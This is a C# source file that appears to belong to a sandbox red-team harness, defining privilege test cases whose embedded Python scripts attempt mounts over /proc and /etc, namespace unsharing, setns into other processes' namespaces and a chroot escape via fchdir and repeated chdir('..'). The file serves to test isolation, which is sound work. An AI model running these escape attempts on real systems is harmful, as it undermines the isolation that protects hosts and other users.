using Airlock.RedTeam.Model;

namespace Airlock.RedTeam.Cases.Privilege;

/// <summary>
/// Mounts and namespaces. Inside the container tier these would be host-kernel objects the host can see in the
/// sandbox processes' /proc entries (a new namespace, a grown mount table); under gVisor and the microVM they
/// would live in the sentry or the guest kernel, and the host's runsc/QEMU processes must not change.
/// </summary>
internal static class NamespaceAttacks
{
    public static IEnumerable<IAttackCase> All()
    {
        yield return Py("mount-tmpfs", "mount(2) a tmpfs and bind-mount /proc, holding them; host: the sandbox processes' mount tables",
            """
            os.makedirs('/tmp/m1', exist_ok=True); os.makedirs('/tmp/m2', exist_ok=True)
            say('tmpfs', sc(165, b'x', b'/tmp/m1', b'tmpfs', 0, None))
            say('bind', sc(165, b'/proc', b'/tmp/m2', None, 4096 | 16384, None))
            hold()
            """);
        yield return Py("unshare-user", "unshare(CLONE_NEWUSER) and hold it; host: no sandbox process in a new user namespace",
            "say('unshare user', sc(272, 0x10000000)); hold()");
        yield return Py("unshare-mnt-net-pid", "unshare mount, network, pid, ipc, uts and cgroup namespaces; host: namespace census",
            "say('unshare', sc(272, 0x00020000 | 0x40000000 | 0x20000000 | 0x08000000 | 0x04000000 | 0x02000000)); hold()");
        yield return Py("userns-then-mount", "new user+mount namespace, then mount tmpfs over /etc as its 'root'; host: census",
            "say('unshare', sc(272, 0x10000000 | 0x00020000)); say('mount', sc(165, b'x', b'/etc', b'tmpfs', 0, None)); hold()");
        yield return Py("setns", "setns(2) into every namespace file it can open (/proc/*/ns/*), then hold; host: census",
            """
            for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
                for ns in ['user', 'mnt', 'net', 'pid', 'ipc', 'uts', 'cgroup']:
                    try:
                        fd = os.open(f'/proc/{pid}/ns/{ns}', os.O_RDONLY)
                        r = sc(308, fd, 0)
                        if r[0] == 0: say('setns', pid, ns, r)
                    except OSError as e:
                        pass
            say('setns sweep done', sc(308, 0, 0)); hold()
            """);
        yield return Py("pivot-root-chroot", "pivot_root(2) and chroot out with the fchdir('..') trick; host: census and markers",
            """
            say('pivot_root', sc(155, b'/tmp', b'/tmp'))
            try:
                os.makedirs('/tmp/jail', exist_ok=True); fd = os.open('/', os.O_RDONLY); os.chroot('/tmp/jail'); os.fchdir(fd)
                for _ in range(64): os.chdir('..')
                os.chroot('.'); say('chroot escape lands in', os.listdir('/')[:20])
            except OSError as e:
                say('chroot', e)
            hold(1)
            """);
    }

    internal static ScriptAttack Py(string name, string attempts, string body) => new()
    {
        Category = Categories.Privilege,
        Name = name,
        Attempts = attempts,
        Python = true,
        Script = _ => Attack.Py + body,
    };
}
